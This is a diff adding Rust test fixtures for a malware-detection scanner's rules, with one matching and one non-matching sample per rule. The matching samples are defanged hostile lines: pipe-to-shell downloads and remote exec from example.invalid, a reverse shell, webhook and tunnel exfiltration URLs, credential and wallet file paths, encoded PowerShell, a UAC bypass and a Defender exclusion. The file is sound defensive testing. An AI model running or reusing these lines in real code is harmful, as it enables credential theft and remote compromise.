@@ -205,3 +205,91 @@ mod tests {
         assert_eq!(line_at(b"x", 0), (1, "x".to_string()));
     }
 }
+
+/// One positive and one negative synthetic fixture per shipped rule. The positives are defanged
+/// (reserved domains, documentation addresses) but keep the shape the rule describes.
+#[cfg(test)]
+mod fixtures {
+    use super::*;
+
+    const CASES: &[(&str, &str, &str)] = &[
+        (
+            "exfil-discord-webhook",
+            "HOOK = 'https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGH12'",
+            "BASE = 'https://discord.com/api/webhooks/'  # webhook client: the id and token come from the user",
+        ),
+        (
+            "exfil-telegram-bot",
+            "u = 'https://api.telegram.org/bot123456789:AAabcdefghijklmnopqrstuvwxyz012345678/sendMessage'",
+            "u = 'https://api.telegram.org/bot' + token",
+        ),
+        (
+            "exfil-request-catcher",
+            "u = 'https://abcdefghij123.oastify.com/x'",
+            "see https://portswigger.net/burp/documentation/collaborator",
+        ),
+        (
+            "exfil-tunnel-or-paste",
+            "u = 'https://abc-123.ngrok-free.app/p'; v = 'https://pastebin.com/raw/XyZ'",
+            "u = 'https://ngrok.com/docs'",
+        ),
+        ("exfil-raw-ip-url", "u = 'http://203.0.113.50:8080/a'", "u = 'http://127.0.0.1:8080/a'; v = 'http://192.168.1.1/'"),
+        (
+            "cred-browser-store",
+            "p = LOCAL + r'\\Google\\Chrome\\User Data\\Default\\Login Data'; k = 'Local State'",
+            "# Login Data is a phrase in this form library",
+        ),
+        ("cred-discord-token", "p = ROAMING + r'\\discord\\Local Storage\\leveldb'", "p = 'discord bot docs'"),
+        ("cred-crypto-wallet", "p = APPDATA + r'\\Exodus\\exodus.wallet'", "# exodus is a book of the bible"),
+        ("cred-dev-secrets", "a = '~/.ssh/id_rsa'; b = '~/.aws/credentials'", "a = '~/.ssh/known_hosts'"),
+        (
+            "win-powershell-encoded",
+            "os.system('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA')",
+            "subprocess.run(['powershell', '-Command', 'Get-ChildItem'])",
+        ),
+        (
+            "win-uac-bypass",
+            "k = r'Software\\Classes\\ms-settings\\shell\\open\\command'; run('fodhelper.exe')",
+            "k = r'Software\\Classes\\txtfile\\shell\\open\\command'",
+        ),
+        ("win-defender-evasion", "cmd = 'powershell Add-MpPreference -ExclusionPath C:\\\\'", "cmd = 'powershell Get-MpPreference'"),
+        (
+            "win-persistence",
+            "k = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'",
+            "k = r'Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall'",
+        ),
+        ("obf-pyarmor", "from pytransform import pyarmor_runtime\npyarmor_runtime()", "# we do not use pyarmor"),
+        ("obf-known-obfuscator", "# Obfuscated with BlankOBF\n____ = eval('__import__')", "# Obfuscation is out of scope"),
+        ("obf-exec-import-chain", "__import__('builtins').exec(payload)", "import builtins\nprint(builtins.len([]))"),
+        (
+            "dropper-shell-pipe",
+            "os.system('curl -s https://example.invalid/i.sh | sh')",
+            "os.system('curl -s https://example.invalid/data.json -o data.json')",
+        ),
+        ("dropper-reverse-shell", "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')", "os.dup2(fd.fileno(), 1)"),
+        (
+            "dropper-exec-remote-code",
+            "exec(urlopen('https://example.invalid/x').read())",
+            "data = urlopen('https://example.invalid/x').read()",
+        ),
+    ];
+
+    #[test]
+    fn every_shipped_rule_has_a_positive_and_a_negative() {
+        let set = RuleSet::compile(&[]).unwrap();
+        let ids = |text: &str| set.scan(text.as_bytes()).into_iter().map(|h| h.id).collect::<Vec<_>>();
+        for (id, positive, negative) in CASES {
+            assert!(ids(positive).contains(&id.to_string()), "{id} misses its positive fixture: {positive}");
+            assert!(!ids(negative).contains(&id.to_string()), "{id} fires on its negative fixture: {negative}");
+        }
+        // And no shipped rule lacks fixtures.
+        let covered: Vec<&str> = CASES.iter().map(|c| c.0).collect();
+        for (_, text) in SHIPPED {
+            for line in text.lines() {
+                if let Some(id) = line.trim().strip_prefix("id = \"").and_then(|r| r.strip_suffix('"')) {
+                    assert!(covered.contains(&id), "rule {id} has no fixtures");
+                }
+            }
+        }
+    }
+}
